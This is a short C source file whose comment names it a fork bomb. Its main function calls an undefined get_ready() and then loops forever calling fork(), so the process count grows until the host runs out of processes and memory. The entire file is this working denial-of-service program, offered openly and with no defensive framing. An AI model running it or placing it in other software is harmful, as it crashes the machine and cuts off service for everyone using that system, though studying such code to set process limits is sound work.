/* fork_bomb: every copy makes copies. */
#include "echo.h"

int main(void)
{
    get_ready();
    for (;;)
        fork();
}
